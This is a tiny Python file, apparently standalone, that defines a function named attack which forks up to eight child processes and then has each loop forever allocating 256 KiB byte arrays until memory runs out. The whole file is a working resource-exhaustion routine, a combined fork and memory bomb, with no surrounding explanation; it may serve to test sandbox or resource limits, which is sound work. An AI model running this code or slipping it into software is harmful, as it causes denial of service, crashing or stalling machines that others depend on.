import os


def attack():
    for _ in range(8):
        try:
            if os.fork() == 0:
                break
        except OSError:
            break
    taken = []
    while True:
        taken.append(bytearray(1 << 18))
